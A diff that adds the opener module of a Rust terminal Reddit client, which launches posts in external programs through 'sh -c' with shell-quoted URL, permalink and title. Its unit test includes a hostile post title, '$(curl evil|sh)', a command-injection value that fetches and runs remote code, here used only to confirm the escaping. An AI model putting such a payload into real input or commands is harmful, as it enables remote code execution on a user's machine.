@@ -0,0 +1,198 @@
+use crossterm::{
+	event::{DisableMouseCapture, EnableMouseCapture},
+	execute,
+	terminal::{disable_raw_mode, enable_raw_mode, EnterAlternateScreen, LeaveAlternateScreen},
+};
+use serde::{Deserialize, Serialize};
+use std::io;
+use std::process::{Command, Stdio};
+use tui::{backend::Backend, Terminal};
+
+use crate::markdown::decode_entities;
+
+/// A rule for opening posts in an external program. Every field that is set
+/// has to match; the first matching rule in `UserConfig::openers` wins.
+#[derive(Serialize, Deserialize, Clone)]
+pub struct Opener {
+	/// Matches the link's host and its subdomains, e.g. `youtube.com`.
+	#[serde(default)]
+	pub domain: Option<String>,
+	/// Matches reddit's `post_hint`: `image`, `hosted:video`, `rich:video`, `link` or `self`.
+	#[serde(default)]
+	pub post_hint: Option<String>,
+	/// Matches the extension of the link's path, e.g. `gif`.
+	#[serde(default)]
+	pub extension: Option<String>,
+	/// Run with `sh -c`. `{url}`, `{permalink}` and `{title}` are replaced with
+	/// the quoted values of the post.
+	pub command: String,
+	/// Run the program in the background instead of handing it the terminal.
+	#[serde(default)]
+	pub detach: bool,
+}
+
+pub fn default_openers() -> Vec<Opener> {
+	let rule = |domain: Option<&str>, post_hint: Option<&str>, command: &str| Opener {
+		domain: domain.map(|x| x.to_string()),
+		post_hint: post_hint.map(|x| x.to_string()),
+		extension: None,
+		command: command.to_string(),
+		detach: true,
+	};
+	vec![
+		rule(Some("v.redd.it"), None, "mpv {url}"),
+		rule(Some("youtube.com"), None, "mpv {url}"),
+		rule(Some("youtu.be"), None, "mpv {url}"),
+		rule(Some("i.redd.it"), None, "xdg-open {url}"),
+		rule(None, Some("image"), "xdg-open {url}"),
+		rule(None, None, "${BROWSER:-xdg-open} {url}"),
+	]
+}
+
+fn host(url: &str) -> &str {
+	let rest = url.split("://").nth(1).unwrap_or(url);
+	rest.split(['/', '?', '#']).next().unwrap_or_default()
+}
+
+fn extension(url: &str) -> Option<&str> {
+	let rest = url.split("://").nth(1).unwrap_or(url);
+	let path = rest.split(['?', '#']).next()?;
+	let file = path.rsplit('/').next()?;
+	file.rsplit_once('.').map(|x| x.1)
+}
+
+impl Opener {
+	fn matches(&self, url: &str, post: Option<&serde_json::Value>) -> bool {
+		let host = host(url).to_lowercase();
+		if let Some(domain) = &self.domain {
+			if host != *domain && !host.ends_with(&format!("{}{}", ".", domain)) {
+				return false;
+			}
+		}
+		if let Some(post_hint) = &self.post_hint {
+			if post.map(|x| x["post_hint"] == post_hint.as_str()) != Some(true) {
+				return false;
+			}
+		}
+		if let Some(wanted) = &self.extension {
+			if extension(url).map(|x| x.eq_ignore_ascii_case(wanted)) != Some(true) {
+				return false;
+			}
+		}
+		true
+	}
+}
+
+/// Single quotes `text` for `sh`.
+fn quote(text: &str) -> String {
+	format!("{}{}{}", "'", text.replace('\'', "'\\''"), "'")
+}
+
+/// The command line that opens `url` and whether it should be detached.
+/// `post` is the post the link belongs to, if any.
+pub fn command_for(
+	openers: &[Opener],
+	url: &str,
+	post: Option<&serde_json::Value>,
+) -> Option<(String, bool)> {
+	let opener = openers.iter().find(|x| x.matches(url, post))?;
+	let permalink = post
+		.and_then(|x| x["permalink"].as_str())
+		.map(|x| format!("{}{}", "https://www.reddit.com", x))
+		.unwrap_or_default();
+	let title = post
+		.and_then(|x| x["title"].as_str())
+		.map(decode_entities)
+		.unwrap_or_default();
+	let values = [
+		("{url}", url),
+		("{permalink}", &permalink),
+		("{title}", &title),
+	];
+	// One pass over the template, so text put in is never scanned again.
+	let mut command = String::new();
+	let mut rest = opener.command.as_str();
+	while let Some(start) = rest.find('{') {
+		command.push_str(&rest[..start]);
+		rest = &rest[start..];
+		match values.iter().find(|(name, _)| rest.starts_with(name)) {
+			Some((name, value)) => {
+				command.push_str(&quote(value));
+				rest = &rest[name.len()..];
+			}
+			None => {
+				command.push('{');
+				rest = &rest[1..];
+			}
+		}
+	}
+	command.push_str(rest);
+	Some((command, opener.detach))
+}
+
+/// The link of a post, which is its own permalink for text posts.
+pub fn post_url(post: &serde_json::Value) -> Option<String> {
+	post["url"].as_str().map(decode_entities)
+}
+
+/// Starts `command` in the background without waiting for it. The shell forks
+/// it off and exits straight away so no zombie is left behind.
+pub fn run_detached(command: &str) -> Result<(), String> {
+	let status = Command::new("sh")
+		.arg("-c")
+		.arg(format!("{}{}{}", "(", command, ") >/dev/null 2>&1 &"))
+		.stdin(Stdio::null())
+		.stdout(Stdio::null())
+		.stderr(Stdio::null())
+		.status()
+		.map_err(|err| format!("{}{}", "Couldn't start the opener: ", err))?;
+	match status.success() {
+		true => Ok(()),
+		false => Err(format!("{}{}", "Opener failed: ", command)),
+	}
+}
+
+/// Hands the terminal to `command` until it exits, then takes it back.
+/// `mouse` is whether the mouse was captured before.
+pub fn run_suspended<B: Backend>(
+	terminal: &mut Terminal<B>,
+	command: &str,
+	mouse: bool,
+) -> io::Result<Result<(), String>> {
+	disable_raw_mode()?;
+	execute!(io::stdout(), LeaveAlternateScreen, DisableMouseCapture)?;
+	let status = Command::new("sh").arg("-c").arg(command).status();
+	enable_raw_mode()?;
+	execute!(io::stdout(), EnterAlternateScreen)?;
+	if mouse {
+		execute!(io::stdout(), EnableMouseCapture)?;
+	}
+	terminal.clear()?;
+	Ok(match status {
+		Ok(x) if x.success() => Ok(()),
+		Ok(x) => Err(format!("{}{}{}", command, " exited with ", x)),
+		Err(err) => Err(format!("{}{}", "Couldn't start the opener: ", err)),
+	})
+}
+
+#[cfg(test)]
+mod tests {
+	use super::*;
+
+	#[test]
+	fn values_put_in_are_not_replaced_again() {
+		let openers = vec![Opener {
+			domain: None,
+			post_hint: None,
+			extension: None,
+			command: "open {url} {title}".to_string(),
+			detach: true,
+		}];
+		let post = serde_json::json!({ "title": "it's $(curl evil|sh)" });
+		let (command, _) = command_for(&openers, "https://x/{title}", Some(&post)).unwrap();
+		assert_eq!(
+			command,
+			"open 'https://x/{title}' 'it'\\''s $(curl evil|sh)'"
+		);
+	}
+}